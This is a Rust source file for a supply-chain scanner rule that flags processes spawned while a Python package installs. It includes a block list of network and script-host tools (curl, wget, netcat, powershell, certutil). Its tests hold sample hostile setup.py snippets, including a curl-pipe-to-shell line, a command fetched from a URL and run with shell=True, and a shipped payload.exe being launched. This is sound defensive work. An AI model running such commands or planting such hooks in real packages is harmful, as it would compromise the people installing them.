//! install-hook-process: processes spawned while a package is built or installed (setup.py,
//! cmdclass overrides, in-tree build backends, `.pth` files).

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::context::RunContext;
use crate::inspect::facts::{DECODED, NET};
use crate::inspect::patterns::{self};
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "install-hook-process",
    severity: Severity::High,
    summary: "A process is spawned at install time (setup.py, build backend, .pth)",
    help: "Reports subprocess/os.system/os.popen/exec*/spawn* calls in code that runs while the \
           package is installed: setup.py (top level, helpers and cmdclass run() overrides), \
           in-tree build backends and .pth files. Build and packaging tools (compilers, git, \
           cmake, make, ninja, pkg-config, the running Python, twine, pip) are reported as info; \
           commands held in variables that cannot be resolved statically (compiler probes \
           such as `cxx + ['-x', 'c++']`) as low; other constant commands as medium; \
           commands that fetch or run remote content, shells with inline scripts, hidden or \
           detached processes, commands that run a native binary or script-host file (.exe, \
           .bin, .dll, .vbs, .ps1...) and commands built from decoded data as high. Installing a \
           package should not need to run arbitrary programs.",
};

const BUILD_TOOLS: &[&str] = &[
    "git",
    "hg",
    "svn",
    "make",
    "gmake",
    "cmake",
    "ninja",
    "meson",
    "gcc",
    "g++",
    "cc",
    "c++",
    "clang",
    "clang++",
    "cl",
    "cl.exe",
    "link",
    "nvcc",
    "hipcc",
    "pkg-config",
    "pkgconf",
    "python",
    "python3",
    "python2",
    "py",
    "cython",
    "swig",
    "cargo",
    "rustc",
    "maturin",
    "go",
    "npm",
    "yarn",
    "node",
    "uname",
    "lsb_release",
    "xcrun",
    "xcode-select",
    "ldconfig",
    "which",
    "where",
    "sw_vers",
    "llvm-config",
    "mpicc",
    "nproc",
    "sysctl",
    "getconf",
    "gfortran",
    "ar",
    "ranlib",
    "strip",
    "install_name_tool",
    "otool",
    "ldd",
    "patchelf",
    "protoc",
    "bison",
    "flex",
    "autoreconf",
    "autoconf",
    "configure",
    "./configure",
    "msbuild",
    "vcvarsall.bat",
    "dpkg-architecture",
    "brew",
    "java",
    "javac",
    "ant",
    "mvn",
    "lipo",
    "sphinx-build",
    "twine",
    "pip",
    "pip3",
    "tox",
    "nox",
    "hatch",
    "flit",
    "poetry",
];

const HOSTILE: &[&str] = &[
    "curl",
    "wget",
    "powershell",
    "pwsh",
    "certutil",
    "mshta",
    "bitsadmin",
    "nc",
    "ncat",
    "netcat",
    "start",
    "rundll32",
    "regsvr32",
    "schtasks",
    "reg",
    "crontab",
    "wscript",
    "cscript",
    "osascript",
    "nohup",
    "setsid",
    "disown",
];

/// Classify a command line: 0 build tool, 1 unknown, 2 hostile.
pub fn classify(cmd: &str) -> u8 {
    let lower = cmd.to_ascii_lowercase();
    let mut words = lower.split_whitespace();
    let Some(first) = words.next() else { return 1 };
    let base = first
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(first)
        .trim_end_matches(".exe");
    let shell_inline = matches!(base, "sh" | "bash" | "zsh" | "cmd" | "dash")
        && lower.contains(" -c")
        || base == "cmd" && lower.contains("/c");
    let inline_python = (base.starts_with("python") || first == "sys.executable")
        && (lower.contains(" -c ") || lower.ends_with(" -c"));
    let url = lower.contains("http://") || lower.contains("https://") || lower.contains("ftp://");
    if HOSTILE.contains(&base)
        || shell_inline && (lower.contains("curl") || lower.contains("wget") || url)
        || inline_python
            && (lower.contains("exec") || lower.contains("base64") || lower.contains("urllib"))
    {
        return 2;
    }
    // `pkg_config = os.environ.get('PKG_CONFIG', 'pkg-config')` keeps its variable name.
    let tool = base.replace('_', "-");
    if BUILD_TOOLS.contains(&base)
        || BUILD_TOOLS.contains(&tool.as_str())
        || first == "sys.executable"
        || base.starts_with("python3.")
    {
        // A build tool fetching from the network (`git clone https://...`) is worth a look.
        return u8::from(url);
    }
    if url {
        return 2;
    }
    1
}

/// File extensions of native executables and script hosts that have no business being run by
/// an installer.
const PAYLOAD_EXT: &[&str] = &[
    ".exe", ".bin", ".dll", ".scr", ".vbs", ".vbe", ".jse", ".hta", ".ps1", ".elf",
];

/// Whether one word of a command names a payload file (`payload.exe`, `C:\\x\\a.vbs`).
fn runs_payload(text: &str) -> bool {
    text.split_whitespace().any(|w| {
        let w = w.trim_matches(['"', '\'']).to_ascii_lowercase();
        let file = w.rsplit(['/', '\\']).next().unwrap_or(&w);
        file.len() > 4 && PAYLOAD_EXT.iter().any(|e| file.ends_with(e))
    })
}

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    for c in &facts.calls {
        if c.ctx != RunContext::Install || !c.is_process() {
            continue;
        }
        let cmd = c
            .args
            .first()
            .and_then(|a| a.text().or_else(|| a.dotted.clone()))
            .or_else(|| c.kw("args").and_then(|a| a.text()));
        let hidden = [
            "creationflags",
            "startupinfo",
            "start_new_session",
            "preexec_fn",
        ]
        .iter()
        .any(|k| c.kw(k).is_some());
        let class = match &cmd {
            Some(cmd) => classify(cmd),
            None => 1,
        };
        // The command is only partly known when its first argument did not fold to a
        // constant: a variable (`args`, `[pkg_config, option]`), `cxx + [...]`. Such
        // commands are how setup.py probes compilers and pkg-config; a hostile one shows up
        // as a hostile word, a URL, taint or detaching, which are graded high regardless.
        let resolved = c
            .args
            .first()
            .or_else(|| c.kw("args"))
            .is_some_and(|a| a.folded.is_some());
        let tainted = c.arg_taint() & (DECODED | NET) != 0 || c.note.is_some();
        // Running a shipped or dropped native binary or script-host file at install time
        // (`os.path.join(here, 'payload.exe')`), however the path is put together.
        let runs_binary = c
            .args
            .iter()
            .chain(c.kwargs.iter().map(|(_, a)| a))
            .flat_map(|a| a.atoms.iter().cloned().chain(a.text()))
            .any(|t| runs_payload(&t))
            // `cl.exe /c x.c` is the compiler itself.
            && class != 0;
        let (sev, what) = if tainted || class == 2 || hidden || runs_binary {
            (Severity::High, "a suspicious process")
        } else if class == 0 {
            (Severity::Info, "a build tool")
        } else if !resolved {
            (Severity::Low, "a process (command not statically known)")
        } else {
            (Severity::Medium, "a process")
        };
        let shown = cmd
            .as_deref()
            .map(|c| format!(": {}", patterns::excerpt(c, 120)))
            .unwrap_or_default();
        out.emit(
            &INFO,
            sev,
            Confidence::Medium,
            c.line,
            format!("install-time code runs {what} via `{}`{shown}", c.name),
            c.note.as_deref(),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::classify;
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn curl_in_setup_is_high() {
        let src = "import os\nfrom setuptools import setup\nos.system('curl -s https://x.example.invalid/i | sh')\nsetup(name='x')\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", src),
            Some(Severity::High)
        );
    }

    #[test]
    fn cmdclass_run_override() {
        let src = "import subprocess\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        subprocess.Popen(['/tmp/.x/agent'], start_new_session=True)\n        install.run(self)\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", src),
            Some(Severity::High)
        );
    }

    #[test]
    fn git_version_is_info_and_modules_are_ignored() {
        let src = "import subprocess\ndef v():\n    return subprocess.check_output(['git', 'describe', '--tags'])\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", src),
            Some(Severity::Info)
        );
        assert_eq!(worst("install-hook-process", "pkg/cli.py", src), None);
        assert_eq!(classify("sys.executable -m pip install x"), 0);
        assert_eq!(classify("powershell -c iex"), 2);
        assert_eq!(classify("git clone https://example.invalid/dep.git"), 1);
        assert_eq!(classify("/tmp/x https://example.invalid/a"), 2);
        assert_eq!(classify("chmod +x configure"), 1);
    }

    #[test]
    fn cffi_pillow_grpcio_requests_build_probes_are_not_medium() {
        let cffi = "import os, subprocess\ndef _ask_pkg_config(option):\n    pkg_config = os.environ.get('PKG_CONFIG','pkg-config')\n    p = subprocess.Popen([pkg_config, option, 'libffi'], stdout=subprocess.PIPE)\n";
        let pillow = "import subprocess\ndef f(ldconfig):\n    args = [ldconfig, '-p']\n    p = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)\n";
        let grpc = "import os, shlex, subprocess\nfrom subprocess import PIPE\ndef check():\n    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n    cpp_test = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++14', '-'], stdin=PIPE, stdout=PIPE, stderr=PIPE)\n";
        let requests = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\n";
        for src in [cffi, pillow, grpc, requests] {
            let sev = worst("install-hook-process", "pkg-1.0/setup.py", src);
            assert!(sev.is_some_and(|s| s <= Severity::Low), "{sev:?}: {src}");
        }
    }

    #[test]
    fn unknown_constant_or_hostile_commands_stay_graded() {
        let unknown = "import subprocess\nsubprocess.call(['/tmp/.x/agent', '--quiet'])\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", unknown),
            Some(Severity::Medium)
        );
        // A variable command that is detached or built from fetched data is still high.
        let detached =
            "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", detached),
            Some(Severity::High)
        );
        let fetched = "import subprocess, urllib.request\ncmd = urllib.request.urlopen('http://192.0.2.1/c').read().decode()\nsubprocess.call(cmd, shell=True)\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", fetched),
            Some(Severity::High)
        );
        assert_eq!(classify("pkg_config --libs libffi"), 0);
        assert_eq!(classify("twine upload dist/*"), 0);
        assert_eq!(classify("wget_tool http://192.0.2.1/x"), 2);
    }

    #[test]
    fn running_a_shipped_binary_from_setup_py_is_high_even_when_the_path_is_computed() {
        let via_var = "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\nexe = os.path.join(here, 'assets', 'payload.exe')\nsubprocess.Popen([exe])\n";
        let inline = "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.call(os.path.join(here, 'helper.bin'))\n";
        for src in [via_var, inline] {
            assert_eq!(
                worst("install-hook-process", "pkg-1.0/setup.py", src),
                Some(Severity::High),
                "{src}"
            );
        }
        assert!(super::runs_payload("wscript C:\\Temp\\a.vbs"));
        assert!(!super::runs_payload("gcc -o build/ext.so x.c"));
        assert!(!super::runs_payload("git clone https://example.com"));
        let msvc = "import subprocess\nsubprocess.check_call(['cl.exe', '/c', 'probe.c'])\n";
        assert_eq!(
            worst("install-hook-process", "pkg-1.0/setup.py", msvc),
            Some(Severity::Info)
        );
    }
}
